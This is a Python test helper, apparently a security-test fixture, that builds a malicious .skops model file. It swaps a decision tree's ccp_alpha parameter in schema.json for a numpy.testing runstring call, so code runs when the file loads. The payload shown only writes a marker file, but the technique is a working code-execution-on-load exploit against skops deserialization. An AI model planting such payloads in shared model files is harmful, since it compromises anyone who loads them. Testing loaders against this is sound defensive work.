"""A malicious .skops file, built the way an attacker would: a legitimate model whose object
tree also calls ``numpy.testing._private.utils.runstring`` with a payload that writes a marker."""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path
from typing import Any


def malicious_skops(path: Path, marker: Path, model: Any = None) -> Path:
    """Writes ``model`` (default: a small fitted decision tree) to ``path`` as .skops, with one
    parameter replaced by a call that creates ``marker`` when the file is loaded."""
    import numpy as np
    import skops.io as sio
    from sklearn.tree import DecisionTreeClassifier

    if model is None:
        model = DecisionTreeClassifier(max_depth=2, random_state=0).fit(np.eye(4), [0, 1, 1, 0])
    archive = zipfile.ZipFile(io.BytesIO(sio.dumps(model)))
    schema = json.loads(archive.read("schema.json"))
    code = f"open({str(marker)!r}, 'w').write('code from the model file ran')"
    args = json.loads(zipfile.ZipFile(io.BytesIO(sio.dumps((code, {})))).read("schema.json"))
    for key in ("protocol", "_skops_version"):
        args.pop(key, None)
    # A ConstructorFromReduceNode calls module.class(*args) when the tree is constructed.
    schema["content"]["content"]["ccp_alpha"] = {
        "__class__": "runstring", "__module__": "numpy.testing._private.utils",
        "__loader__": "ConstructorFromReduceNode", "content": args,
    }
    with zipfile.ZipFile(path, "w") as out:
        for name in archive.namelist():
            out.writestr(name, json.dumps(schema) if name == "schema.json" else archive.read(name))
    return path
